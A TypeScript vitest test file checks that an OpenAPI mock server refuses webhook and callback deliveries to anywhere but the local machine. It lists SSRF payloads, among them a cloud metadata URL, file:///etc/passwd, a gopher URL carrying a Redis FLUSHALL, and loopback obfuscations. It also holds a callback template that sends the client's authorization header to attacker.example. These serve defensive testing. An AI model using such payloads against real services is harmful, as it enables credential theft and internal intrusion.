// What a document, a client or an item of the store names as an address of a webhook or callback: the mock sends nothing
// anywhere but to this machine, and says why.
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, expect, test } from "vitest";
import { allowedAddress } from "../../../src/http/node/sending/allowed.ts";
import { type Mock, createMock } from "../../../src/library/create-mock.ts";
import type { OpenApiDocument } from "../../../src/library/contracts.ts";

const content = { "application/json": { schema: { type: "object" } } };
const done = { "204": { description: "ok" } };
const callback = (expression: string): object => ({
  on: { [expression]: { post: { requestBody: { content }, responses: done } } },
});

const DOCUMENT: object = {
  openapi: "3.1.0",
  info: { title: "Hostile", version: "1" },
  paths: {
    "/calls": {
      post: { requestBody: { content }, responses: done, callbacks: callback("{$request.body#/url}") },
    },
    "/fixed": {
      post: { responses: done, callbacks: callback("http://attacker.example/steal?{$request.header.authorization}") },
    },
    "/many": {
      post: {
        requestBody: { content },
        responses: done,
        callbacks: Object.fromEntries(
          Array.from({ length: 200 }, (_, at) => [`many${at}`, callback("{$request.body#/url}")]).map(([name, one]) => [
            name,
            (one as { on: object }).on,
          ]),
        ),
      },
    },
  },
};

const ATTACKS: Readonly<Record<string, string>> = {
  "another host": "http://attacker.example/",
  "a public address": "http://93.184.216.34/",
  "the address of cloud metadata": "http://169.254.169.254/latest/meta-data/",
  "a private address": "http://10.0.0.1/",
  "every address": "http://0.0.0.0:80/",
  "every IPv6 address": "http://[::]/",
  "an IPv6 address of a link": "http://[fe80::1]/",
  "a name that begins like this machine": "http://localhost.attacker.example/",
  "a name that begins with a loopback address": "http://127.0.0.1.attacker.example/",
  "a name that public servers resolve to loopback": "http://localtest.me/",
  "a loopback address as user name": "http://127.0.0.1@attacker.example/",
  "a user name and a password": "http://user:secret@127.0.0.1/",
  "a user name": "http://user@localhost/",
  "a backslash": "http://attacker.example\\@127.0.0.1/",
  "a file": "file:///etc/passwd",
  gopher: "gopher://127.0.0.1:6379/_FLUSHALL",
  ftp: "ftp://127.0.0.1/",
  "a script": "javascript:alert(1)",
  data: "data:text/plain,x",
  "a WebSocket": "ws://127.0.0.1/",
  "no scheme": "//127.0.0.1/",
  "a relative address": "/hook",
  "no address": "",
  "a long address": `http://127.0.0.1/${"x".repeat(3_000)}`,
  "letters in full width": "http://attacker\uff0eexample/",
  "an IPv4 address within IPv6": "http://[::ffff:10.0.0.1]/",
};

let mock: Mock;
beforeAll(async () => {
  mock = await createMock({ spec: DOCUMENT as OpenApiDocument });
});
afterAll(() => mock.close());

const call = (path: string, body: object, headers: Record<string, string> = {}): Promise<Response> =>
  fetch(`${mock.url}${path}`, {
    method: "POST",
    headers: { "Content-Type": "application/json", ...headers },
    body: JSON.stringify(body),
  });

test.each(Object.entries(ATTACKS))("nothing is sent to %s", async (_, url) => {
  expect((await call("/calls", { url })).status).toBe(204);
  const sent = await mock.webhooks.next("on");
  expect(sent).toMatchObject({ outcome: "refused", attempt: 0 });
  expect(sent.why).toMatch(/\S/);
  expect(sent.status).toBeUndefined();
  expect(mock.webhooks.deliveries.at(-1)?.url).not.toContain("secret");
});

test("a document cannot send a client's key to a host of its choice", async () => {
  await call("/fixed", {}, { Authorization: "Bearer demo-key" });
  expect(await mock.webhooks.next("on")).toMatchObject({ outcome: "refused" });
  expect(JSON.stringify(mock.webhooks.deliveries)).not.toContain("demo-key");
});

test("loopback in other spellings is this machine, as the connection sees it", () => {
  const none = new Set<string>();
  for (const url of [
    "http://2130706433/",
    "http://0x7f.1/",
    "http://127.1/",
    "http://[::1]/",
    "http://app.localhost/",
    "http://localhost./",
  ])
    expect([url, allowedAddress(url, none)]).toMatchObject([url, { isLocal: true }]);
});

test("a redirect is not followed", async () => {
  const arrived: string[] = [];
  const server = createServer((req, res) => {
    arrived.push(req.url ?? "");
    res.writeHead(307, { Location: "/elsewhere" }).end();
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  mock.clock.freeze();
  await call("/calls", { url: `http://localhost:${(server.address() as AddressInfo).port}/hook` });
  await expect
    .poll(() => mock.webhooks.deliveries.at(-1)?.delivery)
    .toMatchObject({ outcome: "repeated", why: /redirects are not followed/ });
  expect(arrived).toEqual(["/hook"]);
  mock.reset();
  server.close();
});

test("an answer that never ends, or is endless, does not hold up anything", async () => {
  const server = createServer((_, res) => {
    res.writeHead(200);
    const piece = "x".repeat(65_536);
    const more = (): void => void res.write(piece, () => setImmediate(more));
    more();
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  await call("/calls", { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/` });
  expect(await mock.webhooks.next("on")).toMatchObject({ outcome: "delivered", status: 200 });
  server.closeAllConnections();
  server.close();
});

test("a mock that calls itself stops after the first time", async () => {
  await call("/calls", { url: `${mock.url}/calls` });
  expect(await mock.webhooks.next("on")).toMatchObject({ outcome: "delivered" });
  await call("/calls", { url: "http://attacker.example/" });
  expect(await mock.webhooks.next("on")).toMatchObject({ outcome: "refused" });
});

test("one request causes twenty callbacks at most", async () => {
  const before = mock.webhooks.deliveries.length;
  await call("/many", { url: "http://attacker.example/" });
  await mock.webhooks.next("many19");
  expect(mock.webhooks.deliveries).toHaveLength(before + 20);
});
